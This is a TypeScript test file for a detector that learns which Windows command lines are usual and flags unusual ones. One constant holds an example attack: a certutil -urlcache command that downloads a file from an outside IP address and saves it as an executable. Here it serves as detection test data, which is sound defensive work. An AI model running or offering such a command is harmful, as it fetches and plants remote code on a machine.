import { describe, expect, test } from 'vitest';
import { ByteReader, ByteWriter } from '../../../statistics/bytes.ts';
import { pick, seeded, wholeNumber, type Random } from '../../../statistics/random.ts';
import { command, type CommandLines } from './command.ts';
import type { Scopes, Seen } from './kind.ts';
import { scopesWith } from './test-scopes.ts';

const START = Date.UTC(2026, 0, 5, 8);
const DAY = 86_400_000;

const usual = (random: Random): string =>
  pick(random, [
    () =>
      `"C:\\Program Files\\Office\\excel.exe" "C:\\Users\\${pick(random, ['alice', 'bob'])}\\Documents\\list${wholeNumber(random, 99)}.xlsx"`,
    () => `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s ${pick(random, ['Schedule', 'BITS', 'Themes'])}`,
    () => `powershell.exe -NoProfile -File C:\\Tools\\inventory.ps1 -Site ${wholeNumber(random, 20)}`,
    () => `certutil.exe -store My`,
  ])();

const attack = 'certutil.exe -urlcache -f http://198.51.100.7/update.txt C:\\Users\\Public\\update.exe';

function stage(tenant = command.create({}, 'tenant')) {
  const entities = new Map<string, CommandLines>();
  const scopes: Scopes<CommandLines> = { ...scopesWith(tenant), tenant, peers: undefined };
  const play = (value: string, time: number, entity = 'user:alice') => {
    const model = entities.get(entity) ?? command.create({}, 'entity');
    entities.set(entity, model);
    const seen: Seen = { entity, time, offset: 0, value, values: [value], by: undefined, ordinal: time };
    const p = model.judge(seen, scopes);
    const judgement = model.explain(seen, scopes);
    model.learn(seen, 1, scopes);
    return { p, judgement };
  };
  return { tenant, play };
}

function trained() {
  const random = seeded(4);
  const staged = stage();
  for (let i = 0; i < 1500; i++) staged.play(usual(random), START + (i * DAY) / 50, `user:${i % 40}`);
  return { ...staged, random, end: START + 31 * DAY };
}

describe('command', () => {
  test('a program used as it never is: odd, with the parts that make it so', () => {
    const { play, end } = trained();
    const { p, judgement } = play(attack, end);
    expect(p).toBeLessThan(0.001);
    expect(judgement.words).toContain('-urlcache (never seen)');
    expect(judgement.scope).toBe('tenant');
    const bits = judgement.contributions.reduce((sum, each) => sum + each.bits, 0);
    expect(bits).toBeCloseTo(-Math.log2(p), 9);
  });

  test('what the organisation runs is silent, whoever runs it', () => {
    const { play, random, end } = trained();
    const ps = Array.from({ length: 300 }, (_, i) => play(usual(random), end + i, 'user:new').p);
    expect(ps.filter((p) => p < 0.01).length).toBeLessThan(8);
  });

  test('repeated within a day it stays odd, after days it is usual', () => {
    const { play, end } = trained();
    for (let i = 0; i < 30; i++) expect(play(attack, end + i * 60_000, `user:${i % 3}`).p).toBeLessThan(0.01);
    for (let day = 1; day < 12; day++)
      for (let user = 0; user < 5; user++) play(attack, end + day * DAY, `user:${user}`);
    expect(play(attack, end + 12 * DAY).p).toBeGreaterThan(0.01);
  });

  test('is read as it was written', () => {
    const { tenant, end } = trained();
    const to = new ByteWriter();
    tenant.write(to);
    const again = stage(command.read(new ByteReader(to.finish()), {}, 'tenant'));
    expect(again.play(attack, end).p).toBeCloseTo(stage(tenant).play(attack, end).p, 9);
    expect(() => command.read(new ByteReader(to.finish().subarray(0, 1000)), {}, 'tenant')).toThrow(RangeError);
  });
});
